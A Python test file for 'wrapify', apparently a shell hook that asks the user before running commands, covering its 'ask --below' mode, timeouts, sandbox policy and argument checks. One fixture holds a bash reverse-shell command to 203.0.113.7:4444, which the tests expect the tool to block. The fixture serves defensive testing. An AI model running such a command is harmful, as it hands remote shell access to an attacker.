"""The question of one start, `wrapify ask --below`: what the hook hears of it, and the two seconds it is given."""

from __future__ import annotations

import os
import signal
import subprocess
from collections.abc import Iterator

import pytest

from tests.conftest import Wrapify
from tests.shell.asking import CANCEL, EDIT, RUN, SANDBOX, SUDO, Asked, above, opened

pytestmark = [pytest.mark.shell]
# As a hook does it: standard output is a pipe, standard error goes nowhere, `timeout` stands in between.
BELOW = (
    "printf 'a line'; told=$(timeout --preserve-status -s VTALRM 60 sh -c 'echo $$ >~/pid; "
    'exec "$0" ask --shell bash --below 2 "$@" <~/framed\' {program} {options} 2>/dev/null); status=$?; '
    'printf %s "$told" >~/told; printf "<here>"; (exit $status)'
)
REVERSE = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


@pytest.fixture
def asked(wrapify: Wrapify) -> Iterator[Asked]:
    with opened(wrapify) as terminal:
        yield terminal


@pytest.mark.parametrize("count", [1, 22, 60])
def test_it_goes_down_says_so_and_comes_back(asked: Asked, count: int) -> None:
    asked.ask(how=BELOW, above=above(count))
    lines = asked.screen().splitlines()
    assert lines[count : count + 2] == ["a line", ""]
    asked.keys("c")
    asked.ends(CANCEL)
    assert asked.said("told") == "asking"
    assert asked.screen().splitlines()[count:] == ["<here>"]


def test_its_time_is_over_only_while_it_judges(asked: Asked) -> None:
    asked.ask(how=BELOW)
    for number in (signal.SIGVTALRM, signal.SIGCONT):
        os.kill(asked.pid(), number)
    asked.stays()
    asked.keys("r")
    asked.ends(RUN)


def test_a_judgement_that_takes_too_long_is_ended(wrapify: Wrapify) -> None:
    command = ["timeout", "--preserve-status", "-s", "VTALRM", "0.1", str(wrapify.program), "ask", "--below", "1"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, env=wrapify.environment(), **wrapify.user.drop) as hanging:
        assert hanging.wait(20) == 128 + signal.SIGVTALRM


def test_what_came_before_is_kept_and_the_hook_knows(asked: Asked) -> None:
    asked.open(SUDO, how=BELOW)
    asked.raw(b"touch ahead\r")
    asked.look()
    asked.go()
    asked.contains("[e]dit")
    asked.look()
    asked.keys("e")
    asked.ends(EDIT)
    assert asked.said("told") == "asking\nkept"
    lines = asked.screen().splitlines()
    assert lines[3] == "wrapify: also came, and was not run: touch ahead"
    assert lines[4:] == ["<here>"]


@pytest.mark.parametrize(
    ("line", "options", "status", "told"),
    [
        (b"ls", (), RUN, ""),
        (b"ls", ("--alone",), RUN, ""),
        (b"sudo ls", ("--judge",), 20, ""),
        (REVERSE, (), EDIT, "\x1b[1mBlocked"),
        (REVERSE, ("--early",), EDIT, "\x1b[1mBlocked"),
    ],
)
def test_what_needs_no_question_is_heard_with_its_colours(
    asked: Asked, line: bytes, options: tuple[str, ...], status: int, told: str
) -> None:
    asked.open(line, *options, how=BELOW)
    asked.go()
    asked.ends(status)
    assert asked.said("told").startswith(told)
    assert bool(asked.said("told")) is bool(told)
    assert asked.screen().splitlines()[1:] == ["a line<here>"]


def test_what_the_policy_sends_to_a_sandbox_is_heard(asked: Asked) -> None:
    assert asked.wrapify("policy", "set", "paste.sudo", "sandbox").returncode == 0
    asked.open(SUDO, how=BELOW)
    asked.go()
    asked.ends(SANDBOX)
    assert "in a sandbox" in asked.said("told")
    assert "\x1b[" in asked.said("told")


@pytest.mark.parametrize(("option", "waiting", "status"), [("", b"x", 20), ("--alone", b"x", RUN)])
def test_whether_something_waits_is_looked_for_unless_it_is_known(
    asked: Asked, option: str, waiting: bytes, status: int
) -> None:
    asked.open(b"ls", "--judge", option, how=BELOW)
    asked.raw(waiting)
    asked.look()
    asked.go()
    asked.ends(status)


def test_without_a_terminal_nothing_runs(wrapify: Wrapify) -> None:
    done = wrapify("ask", "--below", "1", text=b"\0\0" + SUDO + b"\0", start_new_session=True)
    assert (done.returncode, done.stderr) == (EDIT, "")
    assert done.stdout.startswith("asking\nwrapify: nothing can be asked here")


@pytest.mark.parametrize("rows", ["x", "-1", "99999", "1.5", "²"])
def test_rows_are_a_number(wrapify: Wrapify, rows: str) -> None:
    done = wrapify("ask", "--below", rows, text=b"\0\0ls\0")
    assert done.returncode == 2
    assert "number of rows" in done.stderr
